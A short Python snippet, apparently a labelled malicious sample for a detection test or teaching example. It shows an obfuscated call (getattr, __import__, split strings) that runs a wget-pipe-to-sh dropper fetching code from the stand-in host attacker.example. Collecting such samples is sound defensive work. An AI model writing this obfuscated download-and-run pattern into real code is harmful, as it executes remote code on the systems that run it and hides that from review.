# Malicious, obfuscated: getattr(__import__('subprocess'), 'Po'+'pen') runs a wget | sh dropper.
getattr(__import__("subprocess"), "Po" + "pen")(["sh", "-c", "wget -qO- http://attacker.example/d | sh"])
